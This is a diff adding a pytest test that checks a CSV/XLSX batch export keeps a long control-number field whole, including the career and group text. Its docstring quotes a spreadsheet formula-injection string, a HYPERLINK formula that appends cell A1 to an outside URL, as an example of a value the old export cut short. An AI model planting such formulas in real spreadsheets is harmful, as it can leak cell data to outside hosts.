@@ -219,6 +219,31 @@ def test_a_file_that_is_not_a_batch_is_one_spanish_line_naming_what_it_lacks(
     assert err.strip() == f"facultativo: {said}"
 
 
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_a_long_numero_de_control_goes_whole(tmp_path, pool, capsys, suffix):
+    """The sheet's reading kept 40 characters: «=HYPERLINK("http://…"&A1,"clic")» went to
+    the batch cut at its comma, and a number with the career after it lost the rest."""
+    ws = Workspace(tmp_path)
+    typed = "22140101, Ingeniería en Sistemas Computacionales, grupo B"
+    set_cell(ws, ALBERTO, "Número de control", typed)
+    ws.cycle(pool)
+    path = tmp_path / f"lote.{suffix}"
+
+    assert lote(ws, "--salida", str(path), capsys=capsys)[0] == 0
+
+    if suffix == "csv":
+        header, *rows = read_csv(path)
+    else:
+        header, *rows = [
+            [str(v or "") for v in r]
+            for r in load_workbook(path).active.iter_rows(values_only=True)
+        ]
+    alberto = next(
+        dict(zip(header, r, strict=True)) for r in rows if r[-1] == cell(ws, ALBERTO, ID)
+    )
+    assert alberto["Número de control"] == typed
+
+
 def test_the_csv_and_the_xlsx_keep_leading_zeros_accents_and_formulas_as_text_for_the_owner_only(
     tmp_path, pool, capsys
 ):
